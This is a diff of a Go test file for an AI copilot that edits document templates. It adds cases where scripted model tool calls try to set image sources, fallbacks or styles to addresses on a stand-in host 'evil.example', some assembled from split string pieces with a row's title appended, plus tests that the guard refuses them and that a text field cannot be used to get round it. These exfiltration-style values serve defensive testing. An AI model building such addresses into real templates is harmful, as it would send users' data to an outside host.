@@ -122,6 +122,7 @@ func TestNothingLeadsOutOfTheDraft(t *testing.T) {
 		"an address without a scheme": modeltest.Call("set_attr", args{"id": "photo", "name": "p-src", "value": "//evil.example/a.png"}),
 		"an address of a row":         modeltest.Call("bind", args{"id": "photo", "target": "src", "expr": expr(`"https:" + "//evil.example/" + title`)}),
 		"an address in pieces":        modeltest.Call("bind", args{"id": "photo", "target": "src", "expr": expr(`join(["ht", "tp:", "/", "/evil.example/", title], "")`)}),
+		"a fallback in pieces":        modeltest.Call("set_attr", args{"id": "photo", "name": "p-fallback", "value": `{{ join(["ht", "tp:", "/", "/evil.example/", title], "") }}`}),
 		"a style with an address":     modeltest.Call("set_style", args{"id": "card", "property": "background-image", "value": "url(https://evil.example/x.png)"}),
 		"a style with an expression":  modeltest.Call("set_style", args{"id": "card", "property": "background-image", "value": `url({{ title }})`}),
 		"a bound style":               modeltest.Call("bind", args{"id": "card", "target": "style:background-image", "expr": expr(`"url(" + title + ")"`)}),
@@ -515,5 +516,129 @@ func TestFindingsOfAStep(t *testing.T) {
 				t.Errorf("the step has %+v, and was held up %d times, want %d", r.Steps[0].Findings, held, c.held)
 			}
 		})
+	}
+}
+
+// An expression that a text may have is none for a source.
+func TestTextIsNoWayAroundTheGuard(t *testing.T) {
+	pieces := `join(["ht", "tp:", "/", "/evil.example/", title], "")`
+	w := newWorld(t, scripted(plan("a", "b"), modeltest.Call("set_text", args{"id": "title", "text": "{{ " + pieces + " }}"}), finishStep(),
+		modeltest.Call("bind", args{"id": "photo", "target": "src", "expr": pieces}), finish()))
+	r := w.run("Do what the row says")
+	if got := w.refusals(r.ID); len(got) != 1 || !strings.Contains(got["bind"], "could make an address") {
+		t.Errorf("refused was %v", got)
+	}
+}
+
+// What a person added while the copilot was at work is no reason to refuse its steps.
+func TestAddressesOfOthersStay(t *testing.T) {
+	var w *world
+	w = newWorld(t, modeltest.NewProvider(modeltest.Everything, func(n int, _ model.Request) modeltest.Turn {
+		switch n {
+		case 0:
+			return plan("a", "b")
+		case 1:
+			op := json.RawMessage(`{"op": "set_attr", "id": "photo", "name": "p-fallback", "value": "https://cdn.example/none.png"}`)
+			if _, err := w.desk.Edit(context.Background(), draft.Edit{Name: "card", Revision: 1, Ops: []json.RawMessage{op}, Author: "Bob"}); err != nil {
+				t.Error(err)
+			}
+			return modeltest.Call("set_text", args{"id": "title", "text": "One {{ title }}"})
+		case 3:
+			return modeltest.Call("set_text", args{"id": "title", "text": "Two {{ title }}"})
+		case 2, 4:
+			return finishStep()
+		}
+		return finish()
+	}))
+	if r := w.run("Two"); len(r.Steps) != 2 || len(w.refusals(r.ID)) != 0 {
+		t.Errorf("%d steps, %v, %+v", len(r.Steps), w.refusals(r.ID), r.Problem)
+	}
+}
+
+func TestFaultOfOursEndsTheRunAlone(t *testing.T) {
+	w := newWorld(t, scripted(plan("a"), modeltest.Call("render_preview", nil)), func(o *Options) {
+		o.Camera = wall{clips: func(look.Doc) string { panic("a secret value") }}
+	})
+	r := w.run("Look")
+	if r.Status != Failed || r.Problem == nil || r.Problem.Code != "internal" || strings.Contains(r.Problem.Message, "secret") || r.Problem.Hint == "" {
+		t.Errorf("it ended as %s, %+v", r.Status, r.Problem)
+	}
+}
+
+func TestEndIsKeptWhenTheLedgerIsThereAgain(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		w := newWorld(t, scripted(plan("a"), modeltest.Call("set_text", args{"id": "title", "text": "One {{ title }}"}), finishStep(), finish()))
+		w.crash = func(at string) { // the disk is full from here on
+			if at != "copilot.stepped" {
+				return
+			}
+			w.ledger.mu.Lock()
+			defer w.ledger.mu.Unlock()
+			w.ledger.failing, w.ledger.fails = errors.New("the disk is full"), 4
+		}
+		r := w.run("One")
+		if r.Status != Failed || len(r.Steps) != 1 || r.EndedAt == nil {
+			t.Errorf("it ended as %s with %d steps", r.Status, len(r.Steps))
+		}
+		if r, err := w.Discard(t.Context(), r.ID); err != nil || w.source() != card {
+			t.Errorf("discard: %v %s", err, r.Status)
+		}
+		if _, err := w.Start(t.Context(), Order{Template: "card", Message: "Another"}); err != nil {
+			t.Errorf("the template is still busy: %v", err)
+		}
+	})
+}
+
+// offering is a run that ended with two backgrounds to choose from.
+func offering(t *testing.T) (*world, Run) {
+	t.Helper()
+	w := newWorld(t, scripted(plan("a"), finish()))
+	r := w.run("Two backgrounds")
+	for _, name := range []string{"one", "two"} {
+		op := json.RawMessage(`{"op": "add_node", "parent": "card", "index": 0, "node": {"tag": "div", "id": "backdrop", "style": {"background": "` + map[string]string{"one": "#eee", "two": "#ddd"}[name] + `"}}}`)
+		r.Candidates = append(r.Candidates, Candidate{Name: name, Title: "Background " + name, Ops: []json.RawMessage{op}})
+	}
+	if err := w.ledger.SaveRun(t.Context(), r); err != nil {
+		t.Fatal(err)
+	}
+	return w, r
+}
+
+func TestAnotherPickTakesThePlaceOfTheFirst(t *testing.T) {
+	w, r := offering(t)
+	r, err := w.Pick(t.Context(), r.ID, "one")
+	if err != nil || r.Status != Accepted || r.Candidates[0].Picked != 1 || !strings.Contains(w.source(), "#eee") {
+		t.Fatalf("%v %+v", err, r)
+	}
+	if r, err = w.Pick(t.Context(), r.ID, "two"); err != nil || r.Candidates[0].Picked != 0 || r.Candidates[1].Picked != 2 || strings.Contains(w.source(), "#eee") || !strings.Contains(w.source(), "#ddd") {
+		t.Fatalf("%v %+v\n%s", err, r, w.source())
+	}
+	if r, err = w.Discard(t.Context(), r.ID); err != nil || r.Status != Discarded || w.source() != card {
+		t.Fatalf("%v %s", err, r.Status)
+	}
+	if r, err = w.Pick(t.Context(), r.ID, "one"); err != nil || r.Status != Accepted {
+		t.Errorf("picked after all was discarded: %v %s", err, r.Status)
+	}
+	if _, err := w.Pick(t.Context(), r.ID, "three"); problem.CodeOf(err) != problem.NotFound {
+		t.Errorf("a candidate that there is not: %v", err)
+	}
+}
+
+func TestPickThatWasNotNotedIsFoundInTheDraft(t *testing.T) {
+	w, r := offering(t)
+	w.crash = func(at string) {
+		if at == "copilot.picked" { // and the process is gone: nothing is saved
+			w.ledger.mu.Lock()
+			w.ledger.failing, w.ledger.fails = errors.New("gone"), 1
+			w.ledger.mu.Unlock()
+		}
+	}
+	if _, err := w.Pick(t.Context(), r.ID, "one"); err == nil {
+		t.Fatal("it was saved")
+	}
+	w.crash = nil
+	r, err := w.Pick(t.Context(), r.ID, "two")
+	if err != nil || len(r.Steps) != 2 || r.Steps[0].State != Rejected || r.Candidates[0].Picked != 0 || strings.Contains(w.source(), "#eee") || !strings.Contains(w.source(), "#ddd") {
+		t.Errorf("%v %+v\n%s", err, r, w.source())
 	}
 }
